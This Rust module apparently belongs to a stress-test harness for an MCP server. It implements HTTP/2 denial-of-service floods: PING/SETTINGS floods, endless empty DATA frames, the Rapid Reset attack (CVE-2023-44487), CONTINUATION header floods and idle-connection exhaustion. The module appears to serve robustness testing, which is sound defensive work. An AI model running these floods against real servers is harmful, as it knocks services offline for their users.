//! Attacks by HTTP/2.

use std::io;

use crate::attacker::Hostile;
use crate::configuration::MAX_CONNECTIONS;
use crate::http2::{self, Connection, frame};

/// Connections that flood at the same time.
const FLOODS: usize = 4;
/// Frames in one write.
const AT_ONCE: usize = 256;

/// Sends what `frames` returns again and again, on connections that are opened again when they are closed. `frames` is
/// given a number that counts the writes on its connection.
fn flood(hostile: &Hostile, begin: &[u8], frames: impl Fn(u32) -> Vec<u8> + Sync) {
    let who = hostile.who("hostile");
    hostile.on_threads(FLOODS, |_| {
        let mut connection = Connection::open(&who)?;
        connection.send(begin)?;
        connection.drain()?;
        hostile.ready();
        let mut number = 0;
        while !hostile.is_over() {
            connection.send(&frames(number))?;
            number += 1;
        }
        Ok(())
    });
}

/// PING and SETTINGS.
pub(super) fn controls(hostile: &Hostile) {
    let pair = [frame(http2::PING, 0, 0, &[0; 8]), frame(http2::SETTINGS, 0, 0, &[])].concat();
    let frames = pair.repeat(AT_ONCE);
    flood(hostile, b"", |_| frames.clone());
}

/// Empty DATA, on a request whose body never ends.
pub(super) fn sends_nothing(hostile: &Hostile) {
    let who = hostile.who("hostile");
    let begin = frame(http2::HEADERS, http2::END_HEADERS, 1, &http2::headers(&who, true, &who.path("/mcp")));
    let frames = frame(http2::DATA, 0, 1, &[]).repeat(AT_ONCE);
    flood(hostile, &begin, |_| frames.clone());
}

/// Requests that are taken back at once (CVE-2023-44487).
pub(super) fn resets(hostile: &Hostile) {
    let who = hostile.who("hostile");
    let headers = http2::headers(&who, false, &who.path("/mcp"));
    flood(hostile, b"", |number| {
        let streams = (0..64).map(|stream| 1 + 2 * (64 * number + stream));
        let request = |stream| {
            let flags = http2::END_HEADERS | http2::END_STREAM;
            [frame(http2::HEADERS, flags, stream, &headers), frame(http2::RST_STREAM, 0, stream, &[0, 0, 0, 8])]
                .concat()
        };
        streams.flat_map(request).collect()
    });
}

/// Headers that never end, in frames as large as they may be.
pub(super) fn continues(hostile: &Hostile) {
    let who = hostile.who("hostile");
    let begin = frame(http2::HEADERS, http2::END_STREAM, 1, &http2::headers(&who, false, &who.path("/mcp")));
    // ":method: GET" again and again, from the static table.
    let frames = frame(http2::CONTINUATION, 0, 1, &[0x82; 16 * 1024]);
    flood(hostile, &begin, |_| frames.clone());
}

/// Connections without a request whose peers answer every PING.
pub(super) fn idles(hostile: &Hostile) {
    let who = hostile.who("hostile");
    let mut connections: Vec<Option<Connection>> = (0..MAX_CONNECTIONS + 64).map(|_| None).collect();
    hostile.again(|| {
        for connection in &mut connections {
            if hostile.is_over() {
                return Ok(());
            }
            *connection = match connection.take() {
                Some(mut open) => open.answer_pings().is_ok().then_some(open),
                None => Connection::open(&who).ok(),
            };
        }
        hostile.ready();
        Err(io::Error::other("time for a pause"))
    });
}
